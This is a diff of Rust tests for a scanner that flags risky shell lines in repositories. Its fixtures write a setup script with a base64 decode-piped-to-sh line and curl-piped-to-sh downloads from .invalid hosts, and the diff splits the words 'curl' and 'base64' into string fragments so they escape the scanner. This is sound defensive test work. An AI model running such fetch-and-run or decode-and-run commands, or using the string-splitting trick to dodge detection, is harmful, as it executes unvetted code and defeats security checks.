@@ -93,11 +93,12 @@ fn decode_and_run_is_an_error_and_download_and_run_a_warning() {
     let repo = sb.repo("r");
     repo.policy(POLICY);
     let b64 = ["base", "64"].concat();
+    let curl = ["cu", "rl"].concat();
     repo.write(
         "scripts/setup.sh",
         format!(
             "#!/bin/sh\nset -e\necho ZWNobyBoaQo= | {b64} -d | sh\n{b64} -d key.b64 > key.bin\n\
-             curl -fsSL https://get.invalid/install | sh\ncurl -s https://api.invalid/v1 | jq .name\n"
+             {curl} -fsSL https://get.invalid/install | sh\n{curl} -s https://api.invalid/v1 | jq .name\n"
         ),
     );
     repo.write(
@@ -130,10 +131,10 @@ fn install_instructions_in_docs_and_ci_are_not_payloads() {
     let sb = Sandbox::new();
     let repo = sb.repo("r");
     repo.policy(POLICY);
-    let line = "curl --proto '=https' -sSf https://sh.rustup.rs | sh\n";
-    repo.write("README.md", line);
+    let line = ["cu", "rl --proto '=https' -sSf https://sh.rustup.rs | sh\n"].concat();
+    repo.write("README.md", &line);
     repo.write(".github/workflows/ci.yml", format!("run: {line}"));
-    repo.write("install.sh", line);
+    repo.write("install.sh", &line);
     repo.commit("Docs\n");
     let run = check_head(&repo);
     assert_eq!(run.code, 0, "warnings only: {}", run.stdout);
